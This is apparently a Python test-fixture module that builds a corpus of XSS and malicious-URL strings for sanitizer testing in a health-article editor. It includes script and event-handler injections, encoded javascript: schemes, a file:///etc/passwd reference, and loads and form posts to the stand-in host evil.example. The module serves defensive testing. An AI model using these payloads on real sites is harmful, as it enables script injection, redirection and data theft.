"""Attack strings: schemes, disguises, tags, handlers, and where an editor can put them."""

from collections.abc import Callable, Iterator
from itertools import product

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://a.example/b",
    "about:blank",
    "view-source:https://a.example/",
    "feed:javascript:alert(1)",
    "ftp://a.example/",
    "ws://a.example/",
    "intent://a/#Intent;end",
    "//evil.example/a",
    "/\\evil.example/a",
    "\\\\evil.example\\a",
    "https:evil.example",
    "https:\\\\evil.example",
    "https://good.example@evil.example/",
    "https:///evil.example",
    "https://[::1]/",
    "mailto:a@b.example?bcc=all@c.example",
    "tel:999;phone-context=evil",
    "sms:999",
]


def _entities(address: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in address)


def _hexadecimal(address: str) -> str:
    return "".join(f"&#x{ord(letter):x};" for letter in address)


DISGUISES: dict[str, Callable[[str], str]] = {
    "plain": str,
    "upper": str.upper,
    "entities": _entities,
    "hexadecimal": _hexadecimal,
    "percent": lambda address: address.replace(":", "%3A", 1),
    "double percent": lambda address: address.replace(":", "%253A", 1),
    "colon entity": lambda address: address.replace(":", "&colon;", 1),
    "tab entity": lambda address: address[:3] + "&Tab;" + address[3:],
    "new line entity": lambda address: address[:3] + "&NewLine;" + address[3:],
    "nought entity": lambda address: "&#0;" + address,
    "leading space": lambda address: "&#32;" + address,
    "escaped": lambda address: address.replace(":", "\\:", 1),
    "full width": lambda address: address.replace(":", "\uff1a", 1),
    "angles": lambda address: f"<{address}>",
}
PLACES = {
    "link": "[a]({})",
    "link with title": '[a]({} "b")',
    "reference": "[a]\n\n[a]: {}",
    "picture": "![a]({})",
    "automatic": "<{}>",
    "picture in link": "[![a](drawing:calf-stretch)]({})",
}
HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationend", "ontoggle"]
TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<form action=//evil.example><input name=_publish value=1></form>",
    "<input type=hidden name=status value=published>",
    "<button form=f formaction=javascript:alert(1)>a</button>",
    "<select name=a><option>b</option></select>",
    "<textarea name=a></textarea>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1) id=page-main name=a target=_top>a</a>",
    "<div style='background:url(//evil.example)' class=care id=card-1>a</div>",
    '<div class="finding__picture"></div>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</section></main><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>a</marquee>",
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
    *(f'" {handler}="alert(1)' for handler in HANDLERS),
    *(f"' {handler}='alert(1)' a='" for handler in HANDLERS),
]
HOLDERS = {
    "paragraph": "{}",
    "heading": "## {}",
    "heading with key": "## {} {{#key}}",
    "key": "## a {{#{}}}",
    "list": "- {}",
    "quotation": "> {}",
    "cell": "|a|\n|-|\n|{}|",
    "code": "`{}`",
    "fence": "``` {}\n{}\n```",
    "card heading": "::: emergency {}\n- a\n:::",
    "card": "::: urgent a\n- {}\n:::",
    "box": "::: {}\n:::",
    "finding": "::: finding {}\n:::",
    "what not to do": "::: dont\n- {}\n:::",
    "step": "::: steps\n1. {}\n:::",
    "article link": "[[night-cramps|{}]]",
    "article code": "[[{}]]",
    "citation": "[@{}]",
    "warning sign": "[!{}]",
    "glossary": "{{{}}}",
    "alt": "![{}](drawing:calf-stretch)",
    "caption": "![a](drawing:calf-stretch '{}')",
    "link words": "[{}](https://a.example/)",
    "link title": "[a](https://a.example/ '{}')",
    "reference title": "[a]\n\n[a]: https://a.example/ '{}'",
}


def attacks() -> Iterator[str]:
    """Give every attack."""
    for scheme, disguise, place in product(SCHEMES, DISGUISES.values(), PLACES.values()):
        yield place.format(disguise(scheme))
    for tag, holder in product(TAGS, HOLDERS.values()):
        yield holder.replace("{}", tag).replace("{{", "{").replace("}}", "}")
